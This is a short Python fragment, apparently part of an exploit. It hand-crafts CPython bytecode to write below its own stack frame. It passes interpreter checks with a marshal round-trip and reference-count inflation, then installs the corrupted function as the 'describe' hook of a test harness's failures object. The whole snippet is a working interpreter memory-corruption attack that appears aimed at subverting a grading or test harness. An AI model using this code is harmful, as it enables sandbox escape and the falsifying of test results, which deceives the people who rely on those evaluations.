# Code from hostile bytes writes below its own stack: where its caller goes on.
import marshal

code = execute.f_code
below = 9 + code.co_nlocals + code.co_stacksize + 9 + 2 - 7 + 1


class Landing:
    """With 83 << 16 references, its third byte is RETURN_VALUE."""


landing = Landing()


def describe(error, source):
    return landing


units = [151, 0, 100, 1, 144, below >> 8, 99, below & 255, 100, 0, 83, 0]
made = describe.__code__.replace(
    co_code=bytes(units), co_consts=("x", 1.5), co_stacksize=100, co_names=()
)
made = marshal.loads(marshal.dumps(made))
made = made.replace(co_consts=("x", landing))
describe.__code__ = made
import gc

many = [landing] * ((83 << 16) - sys.getrefcount(landing) + 2)
harness["failures"].describe = describe
